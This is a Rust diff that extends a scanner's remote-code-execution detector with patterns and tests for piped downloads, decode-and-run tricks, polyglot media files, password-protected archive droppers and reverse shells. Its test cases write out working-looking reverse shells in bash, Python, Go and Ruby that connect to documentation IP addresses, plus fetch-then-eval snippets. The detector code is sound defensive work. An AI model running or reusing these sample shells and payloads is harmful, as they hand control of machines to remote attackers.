@@ -11,49 +11,51 @@ use std::sync::LazyLock;
 use regex::{Captures, Regex};
 
 use super::hosts::{HostClass, Target, describe, first_target};
-use super::text::{Context, Place, Segment};
+use super::pattern_list::PatternList;
+use super::text::{Context, Document, Place, Segment};
 use super::{Hit, Rule, Severity, Sink, download};
 
+/// Words this family's patterns cannot do without: `audit::detect` runs the family only on text that has one.
+pub(crate) const GATE: &str = r"(?i)curl|wget|iwr|irm|invoke-|webclient|eval|exec|function|base64|xxd|printf|powershell|pwsh|/dev/tcp|/dev/udp|(?-u:\b)nc(?-u:\b)|ncat|netcat|socat|mkfifo|socket|fsockopen|password|passcode|(?-u:\b)pass(?-u:\b)|(?-u:\b)pwd(?-u:\b)|(?-u:\b)pw(?-u:\b)|unzip|7z|unrar|download|urlretrieve|aria2c|certutil|bitsadmin|mshta|regsvr32|rundll32|msiexec|://|\|\s*(?:sudo\s+)?(?:ba|z|da)?sh(?-u:\b)|\|\s*(?:python|perl|ruby|node)";
+
 struct Patterns {
-    gate: Regex,
     pipe: Regex,
-    substitution: Vec<Regex>,
-    powershell: Vec<Regex>,
-    eval_remote: Vec<Regex>,
-    decode: Vec<Regex>,
-    reverse_shell: Vec<Regex>,
-    archive_command: Vec<Regex>,
+    substitution: PatternList,
+    powershell: PatternList,
+    eval_remote: PatternList,
+    decode: PatternList,
+    reverse_shell: PatternList,
+    archive_command: PatternList,
     archive_word: Regex,
     password_value: Regex,
+    /// A media file's bytes read into an interpreter (`tail -c +68 logo.png | sh`).
+    media_run: Regex,
 }
 
 static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| {
     let regex = |pattern: &str| Regex::new(pattern).expect("the pattern is valid");
     let interpreters = r"(?:bash|sh|zsh|dash|ksh|fish|python[0-9.]*|perl|ruby|node|php|pwsh|powershell(?:\.exe)?|iex|invoke-expression|source)";
     Patterns {
-        gate: regex(
-            r"(?i)curl|wget|iwr|irm|invoke-|webclient|eval|exec|function|base64|xxd|printf|powershell|pwsh|/dev/tcp|/dev/udp|(?-u:\b)nc(?-u:\b)|ncat|netcat|socat|mkfifo|socket|fsockopen|password|passcode|(?-u:\b)pass(?-u:\b)|(?-u:\b)pwd(?-u:\b)|(?-u:\b)pw(?-u:\b)|unzip|7z|unrar|download|urlretrieve|aria2c|certutil|bitsadmin|mshta|regsvr32|rundll32|msiexec|://",
-        ),
         pipe: regex(&format!(
             r"(?i)(?-u:\b)(curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|aria2c)(?-u:\b)[^;\n]*?\|\s*(?:sudo\s+(?:-[a-z]+\s+)*)?(?:env\s+(?:[a-z_][a-z0-9_]*=\S*\s+)*)?({interpreters})(?-u:\b)(\s+-[a-z]+)?"
         )),
-        substitution: vec![
+        substitution: PatternList::new(vec![
             regex(
                 r"(?i)(?:(?-u:\b)(?:bash|sh|zsh|dash|ksh|source)|(?:^|[;&|(\s])\.)\s+<\(\s*(curl|wget)(?-u:\b)",
             ),
             regex(
                 r#"(?i)(?-u:\b)(?:bash|sh|zsh|dash|ksh|python[0-9.]*|perl|ruby|node|php)\s+(?:-[a-z]+\s+)*-[ce]\s+["']?(?:\$\(|`)\s*(curl|wget)(?-u:\b)"#,
             ),
-        ],
-        powershell: vec![
+        ]),
+        powershell: PatternList::new(vec![
             regex(
                 r"(?i)(?-u:\b)(?:iex|invoke-expression)(?-u:\b)\s*\(?\s*(?:\(\s*)?(iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget|new-object\s+(?:system\.)?net\.webclient)(?-u:\b)",
             ),
             regex(
                 r"(?i)(\.downloadstring)\s*\([^\n]*?(?-u:\b)(?:iex|invoke-expression)(?-u:\b)|(?-u:\b)(?:iex|invoke-expression)(?-u:\b)[^\n]*?(\.downloadstring)\s*\(",
             ),
-        ],
-        eval_remote: vec![
+        ]),
+        eval_remote: PatternList::new(vec![
             // Windows programs that fetch and run a script themselves.
             regex(
                 r#"(?i)(?-u:\b)(mshta|regsvr32|rundll32|msiexec)(?:\.exe)?\s+(?:[/-][^\s:]+\s+)*["']?(?:/i:)?https?://"#,
@@ -69,8 +71,8 @@ static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| {
                 r"(?i)(?-u:\b)eval\s*\(?\s*((?:uri\.)?open|net::http\.get)\s*\(\s*(?:uri\s*\(\s*)?[\x22']https?:",
             ),
             regex(r"(?i)(?-u:\b)eval\s*\(\s*(file_get_contents)\s*\(\s*[\x22']https?:"),
-        ],
-        decode: vec![
+        ]),
+        decode: PatternList::new(vec![
             regex(&format!(
                 r"(?i)(?-u:\b)base64\s+(?:-[a-z]*d[a-z]*|--decode)(?-u:\b)[^;\n]*?\|\s*(?:sudo\s+)?({interpreters})(?-u:\b)(\s+-[a-z]+)?"
             )),
@@ -95,8 +97,22 @@ static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| {
             regex(
                 r"(?i)(?-u:\b)(?:iex|invoke-expression)(?-u:\b)[^;\n]*?frombase64string|frombase64string[^;\n]*?(?-u:\b)(?:iex|invoke-expression)(?-u:\b)",
             ),
-        ],
-        reverse_shell: vec![
+            // Text written backwards and reversed into a shell or an evaluator.
+            regex(&format!(
+                r"(?i)(?-u:\b)rev(?-u:\b)\s*\|\s*(?:sudo\s+)?({interpreters})(?-u:\b)(\s+-[a-z]+)?"
+            )),
+            regex(
+                r"(?i)(?-u:\b)(?:exec|eval|os\.system|subprocess\.\w+|new\s+function|function)\s*\([^;\n]*?(?:\[\s*::\s*-1\s*\]|\.reverse\s*\(\s*\)|strrev\s*\()",
+            ),
+            // Character codes rebuilt into code and run at once.
+            regex(
+                r"(?i)(?-u:\b)(?:eval|new\s+function|function|exec)\s*\([^;\n]*?(?:fromcharcode|(?-u:\b)chr\s*\()[^;\n]*?\)\s*\(\s*\)",
+            ),
+            regex(
+                r#"(?i)(?-u:\b)(?:exec|eval)\s*\(\s*(?:""|'')\s*\.\s*join\s*\(\s*(?:map\s*\(\s*)?chr(?-u:\b)|(?-u:\b)(?:exec|eval)\s*\(\s*(?:bytes|bytearray)\s*\(\s*\["#,
+            ),
+        ]),
+        reverse_shell: PatternList::new(vec![
             regex(r"(?i)(?-u:\b)(?:ba|z)?sh\s+-i\s*[0-9]*>&\s*/dev/(?:tcp|udp)/"),
             regex(r"(?i)/dev/(?:tcp|udp)/[^\s/]+/\d+\s*0>&1"),
             regex(r"(?i)(?-u:\b)exec\s+\d+<>\s*/dev/(?:tcp|udp)/"),
@@ -115,17 +131,23 @@ static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| {
             regex(
                 r"(?i)(?-u:\b)fsockopen\s*\(.*(?-u:\b)(?:exec|shell_exec|system|proc_open|passthru)(?-u:\b)",
             ),
-        ],
-        archive_command: vec![
+            regex(
+                r"(?i)(?-u:\b)tcpsocket\.(?:new|open)\s*\(.*(?:/bin/(?:ba|z)?sh|(?-u:\b)(?:exec|spawn|popen)(?-u:\b))",
+            ),
+        ]),
+        archive_command: PatternList::new(vec![
             regex(r"(?i)(?-u:\b)unzip\s+(?:-[a-z]+\s+)*(?-i:-P)\s*\S+"),
             regex(r"(?i)(?-u:\b)7z[az]?\s+[ex](?-u:\b)[^;\n]*?\s-p\S+"),
             regex(r"(?i)(?-u:\b)unrar\s+[ex](?-u:\b)[^;\n]*?\s-p\S+"),
-        ],
+        ]),
         archive_word: regex(
             r"(?i)\.(?:zip|rar|7z)(?-u:\b)|(?-u:\b)(?:zip|rar|7z|7-zip|archive|unzip|extract)(?-u:\b)",
         ),
+        media_run: regex(&format!(
+            r"(?i)(?-u:\b)(?:tail|head|dd|cat|cut|strings|sed|awk|xxd|base64|openssl)(?-u:\b)[^|;\n]*?\.(?:png|jpe?g|gif|bmp|ico|icns|webp|tiff?|pdf|mp3|wav|ogg|mp4|mov|ttf|otf|woff2?)(?-u:\b)[^;\n]*?\|\s*(?:sudo\s+)?({interpreters})(?-u:\b)(\s+-[a-z]+)?"
+        )),
         password_value: regex(
-            r#"(?i)(?-u:\b)(?:password|passcode|passphrase|pass|pwd|pw)(?-u:\b)\s*(?:is\s*:?|:|=)\s*[`'"*]*([A-Za-z0-9!@#$%^&_.+-]{2,32})|(?-u:\b)(?:with|use|using|enter)\s+(?:the\s+)?(?:password|passcode|pass)\s*:?\s*[`'"*]+([^`'"*\s]{2,32})"#,
+            r#"(?i)(?-u:\b)(?:password|passcode|passphrase|pass|pwd|pw)(?-u:\b)\s*(?:is\s*:?|:|=)\s*[`'"*]*([A-Za-z0-9!@#$%^&_.+-]{2,32})|(?-u:\b)(?:with|use|using|enter)\s+(?:the\s+)?(?:archive\s+|zip\s+|extraction\s+|unzip\s+)?(?:password|passcode|pass)\s*:?\s*[`'"*]+([^`'"*\s]{2,32})"#,
         ),
     }
 });
@@ -167,11 +189,8 @@ const NOT_PASSWORDS: &[&str] = &[
 /// Scans `text` for remote code execution.
 pub(crate) fn detect(text: &str, context: &Context, sink: &mut Sink) {
     let patterns = &*PATTERNS;
-    if !patterns.gate.is_match(text) {
-        return;
-    }
     pipes(text, context, sink);
-    for pattern in &patterns.eval_remote {
+    for pattern in patterns.eval_remote.matching(text) {
         if let Some(captures) = pattern.captures(text) {
             let (start, target) = target_after(text, &captures);
             let severity = severity_of(target.as_ref(), Severity::Low, Severity::High);
@@ -187,7 +206,7 @@ pub(crate) fn detect(text: &str, context: &Context, sink: &mut Sink) {
             break;
         }
     }
-    for pattern in &patterns.decode {
+    for pattern in patterns.decode.matching(text) {
         if let Some(captures) = pattern.captures(text) {
             if reads_stdin_as_data(&captures) {
                 continue;
@@ -203,16 +222,22 @@ pub(crate) fn detect(text: &str, context: &Context, sink: &mut Sink) {
             break;
         }
     }
-    if let Some(found) = patterns
-        .reverse_shell
-        .iter()
-        .find_map(|pattern| pattern.find(text))
-    {
+    if let Some(found) = patterns.reverse_shell.first(text) {
         sink.hit(
             Rule::ReverseShell,
             Severity::Critical,
             found.start(),
             "a shell is wired to a network connection: whoever is at the other end controls the machine".to_owned(),
+        );
+    }
+    if let Some(captures) = patterns.media_run.captures(text)
+        && !reads_stdin_as_data(&captures)
+    {
+        sink.hit(
+            Rule::PolyglotFile,
+            Severity::High,
+            captures.get(0).map_or(0, |m| m.start()),
+            "bytes of a media file are fed to an interpreter: an image or document that hides a script".to_owned(),
         );
     }
     password_archive(text, sink);
@@ -274,7 +299,11 @@ fn pipes(text: &str, context: &Context, sink: &mut Sink) {
         break;
     }
     if found.is_none() {
-        for pattern in patterns.substitution.iter().chain(&patterns.powershell) {
+        for pattern in patterns
+            .substitution
+            .matching(text)
+            .chain(patterns.powershell.matching(text))
+        {
             if let Some(captures) = pattern.captures(text) {
                 let (start, target) = target_after(text, &captures);
                 found = Some((start, target, "an interpreter"));
@@ -347,10 +376,7 @@ fn severity_of(target: Option<&Target>, installer: Severity, default: Severity) 
 /// Archives opened with a password the text gives.
 fn password_archive(text: &str, sink: &mut Sink) {
     let patterns = &*PATTERNS;
-    let command = patterns
-        .archive_command
-        .iter()
-        .find_map(|pattern| pattern.find(text));
+    let command = patterns.archive_command.first(text);
     let prose = || {
         patterns.archive_word.find(text)?;
         patterns
@@ -373,6 +399,44 @@ fn password_archive(text: &str, sink: &mut Sink) {
         at,
         "an archive is opened with a password given in the text: encryption keeps its content from scanners, the way malware droppers ship".to_owned(),
     );
+}
+
+/// A shell wired to a socket over several lines of a script: a socket connected, its
+/// descriptors handed to a process, and a shell (`s.connect(…)`, `os.dup2(s.fileno(), 0)`,
+/// `subprocess.call(["/bin/sh", "-i"])`). Returns (line index, byte offset, finding).
+pub(crate) fn reverse_shell_lines(document: &Document<'_>) -> Option<(usize, usize, Hit)> {
+    const SPAN: usize = 12;
+    static SOCKET: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"(?i)socket\.socket\s*\(|socket\.create_connection|new\s+net\.socket|net\.(?:connect|createconnection)\s*\(|net\.dial\s*\(\s*"tcp|tcpclient\s*\(|fsockopen\s*\(|(?-u:\b)socket\s*\(\s*(?:af_inet|pf_inet|socket::)"#)
+            .expect("the pattern is valid")
+    });
+    static HANDED: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?i)(?-u:\b)dup2\s*\(|pty\.spawn\s*\(|\.pipe\(\s*\w+\.stdin|(?:stdin|stdout)\s*=\s*\w+\.(?:fileno|makefile)|stdio\s*:\s*\[\s*\w+\s*,|\.std(?:in|out)\s*=\s*\w+\s*$")
+            .expect("the pattern is valid")
+    });
+    static SHELL: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"(?i)/bin/(?:ba|z|da)?sh(?-u:\b)|cmd\.exe|(?-u:\b)powershell(?-u:\b)|["'](?:ba|z)?sh["']"#)
+            .expect("the pattern is valid")
+    });
+    let text = &document.text;
+    if !text.contains("socket") && !text.contains("net.") && !text.contains("TcpClient") {
+        return None;
+    }
+    if !text.contains("sh") && !text.contains("cmd") && !text.contains("owershell") {
+        return None;
+    }
+    let (first, _) = document.near(&[&*SOCKET, &*HANDED, &*SHELL], SPAN)?;
+    let at = SOCKET.find(document.line(first)).map_or(0, |m| m.start());
+    Some((
+        first,
+        at,
+        Hit {
+            rule: Rule::ReverseShell,
+            severity: Severity::Critical,
+            at,
+            message: "a socket is connected, its descriptors are handed to a process and a shell is started: whoever is at the other end controls the machine".to_owned(),
+        },
+    ))
 }
 
 /// Text fetched into a variable: the variable's name is the first group.
@@ -411,9 +475,27 @@ pub(crate) fn evaluations(segments: &[Segment]) -> Vec<(usize, Hit)> {
                 })
                 .map(|later| later.text.as_str()),
         );
-        let evaluated = rest
-            .into_iter()
-            .any(|text| evaluates(text, variable.as_str()));
+        // What is computed from the fetched text is fetched text too
+        // (`res = await fetch(u)`, `code = await res.text()`, `eval(code)`).
+        let mut tainted = vec![variable.as_str().to_owned()];
+        let mut evaluated = false;
+        for text in rest {
+            if tainted.iter().any(|name| evaluates(text, name)) {
+                evaluated = true;
+                break;
+            }
+            for captures in ASSIGNED.captures_iter(text) {
+                let (Some(name), Some(value)) = (captures.get(1), captures.get(2)) else {
+                    continue;
+                };
+                if tainted.len() < MAX_TAINTED
+                    && tainted.iter().any(|from| mentions(value.as_str(), from))
+                    && !tainted.iter().any(|known| known == name.as_str())
+                {
+                    tainted.push(name.as_str().to_owned());
+                }
+            }
+        }
         if !evaluated {
             continue;
         }
@@ -432,6 +514,24 @@ pub(crate) fn evaluations(segments: &[Segment]) -> Vec<(usize, Hit)> {
         found.extend(sink.hits.into_iter().map(|hit| (index, hit)));
     }
     found
+}
+
+/// The most names followed from one fetch.
+const MAX_TAINTED: usize = 8;
+
+/// An assignment: the name is the first group, the value the second.
+static ASSIGNED: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?:^|[\s;(])(?:const\s+|let\s+|var\s+|local\s+|\$)?([A-Za-z_][A-Za-z0-9_]*)\s*=\s*([^=;\n][^;\n]*)")
+        .expect("the pattern is valid")
+});
+
+/// Returns true when `text` names `variable` as a whole word.
+fn mentions(text: &str, variable: &str) -> bool {
+    text.match_indices(variable).any(|(at, _)| {
+        let end = at + variable.len();
+        !text[..at].ends_with(|c: char| c.is_alphanumeric() || c == '_')
+            && !text[end..].starts_with(|c: char| c.is_alphanumeric() || c == '_')
+    })
 }
 
 /// Returns true when `text` hands `variable` to something that runs it: `exec(variable)`,
@@ -579,6 +679,10 @@ mod tests {
             (Rule::DecodeAndExecute, Severity::High)
         );
         assert_eq!(
+            found("exec(''.join(chr(c) for c in CODES))")[0],
+            (Rule::DecodeAndExecute, Severity::High)
+        );
+        assert_eq!(
             found("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")[0],
             (Rule::ReverseShell, Severity::Critical)
         );
@@ -611,6 +715,18 @@ mod tests {
             evaluated("payload=$(curl -s http://203.0.113.8/p)\neval \"$payload\"\n"),
             [(Rule::EvalRemote, Severity::Critical)]
         );
+        let two_steps = |path: &str, text: &str| {
+            let document = crate::audit::text::Document::read(path, text.as_bytes())
+                .expect("scripts are text");
+            evaluations(&document.segments()).len()
+        };
+        assert_eq!(
+            two_steps(
+                "run.js",
+                "const res = await fetch('https://cfg.example/boot.js');\nconst code = await res.text();\neval(code);\n"
+            ),
+            1
+        );
         assert_eq!(
             evaluated(
                 "data = requests.get('https://api.example/items').json()\nprint(data)\nresult = eval(expression)\n"
@@ -620,9 +736,35 @@ mod tests {
     }
 
     #[test]
+    fn reverse_shells_written_over_several_lines_are_found() {
+        let script = "import os, socket, subprocess\n\ndef bridge():\n    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    s.connect((\"198.51.100.33\", 8443))\n    for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\n    subprocess.call([\"/bin/sh\", \"-i\"])\n";
+        let document = Document::read("run.py", script.as_bytes()).unwrap();
+        assert_eq!(
+            reverse_shell_lines(&document).map(|(line, _, hit)| (line, hit.rule)),
+            Some((3, Rule::ReverseShell))
+        );
+        let go = "conn, _ := net.Dial(\"tcp\", \"198.51.100.9:4444\")\ncmd := exec.Command(\"/bin/sh\")\ncmd.Stdin = conn\ncmd.Run()\n";
+        let document = Document::read("main.go", go.as_bytes()).unwrap();
+        assert!(reverse_shell_lines(&document).is_some());
+        assert_eq!(
+            found(
+                "ruby -rsocket -e 'f=TCPSocket.open(\"198.51.100.9\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'"
+            )[0],
+            (Rule::ReverseShell, Severity::Critical)
+        );
+        let client = "import socket\ns = socket.socket()\ns.connect((\"localhost\", 5432))\ns.sendall(b\"ping\")\nprint(s.recv(64))\n";
+        let document = Document::read("ping.py", client.as_bytes()).unwrap();
+        assert!(reverse_shell_lines(&document).is_none());
+    }
+
+    #[test]
     fn password_archives_are_found() {
         assert_eq!(
             found("Extract agent.zip with password: `infected2024` and run setup.exe"),
+            [(Rule::PasswordArchive, Severity::High)]
+        );
+        assert_eq!(
+            found("Extract it with the archive password `ob2026` so antivirus leaves it alone."),
             [(Rule::PasswordArchive, Severity::High)]
         );
         assert_eq!(
